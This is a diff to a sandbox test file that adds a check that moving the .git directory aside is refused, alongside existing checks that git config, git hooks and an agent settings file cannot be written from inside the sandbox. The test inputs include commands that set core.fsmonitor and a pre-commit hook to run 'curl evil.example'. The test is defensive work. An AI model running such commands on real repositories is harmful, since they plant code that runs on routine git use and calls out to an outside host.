@@ -360,13 +360,14 @@ describe("what the sandbox can see and reach beyond files (issue 36.5, 39.5)", (
         "git config core.fsmonitor 'curl evil.example'",
         "echo 'curl evil.example' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
         `echo '{"hooks":{}}' > .claude/settings.json`,
+        "mv .git .git-aside && mkdir .git && echo replaced",
         "echo change >> README.md && git -c user.name=T -c user.email=t@example.com commit -qam wip && git log --oneline | head -1",
         "npm test",
       ],
       { home, repo },
     );
-    const [gitConfig, hook, claude, commit, npm] = results.map((r) => r.text);
-    for (const refused of [gitConfig, hook, claude]) {
+    const [gitConfig, hook, claude, moveAside, commit, npm] = results.map((r) => r.text);
+    for (const refused of [gitConfig, hook, claude, moveAside]) {
       // git writes config.lock and renames it over the read-only bind: EBUSY; the others EROFS.
       expect(refused).toMatch(/Read-only file system|Device or resource busy/);
       expect(refused).toContain("[omp sandbox]");
@@ -374,6 +375,7 @@ describe("what the sandbox can see and reach beyond files (issue 36.5, 39.5)", (
     expect(readFileSync(join(repo, ".git", "config"), "utf8")).toBe(config);
     expect(existsSync(join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
     expect(readFileSync(join(repo, ".claude", "settings.json"), "utf8")).toBe("{}\n");
+    expect(existsSync(join(repo, ".git-aside"))).toBe(false);
     expect(commit).toContain("wip");
     expect(npm).toContain("tests ok");
   });
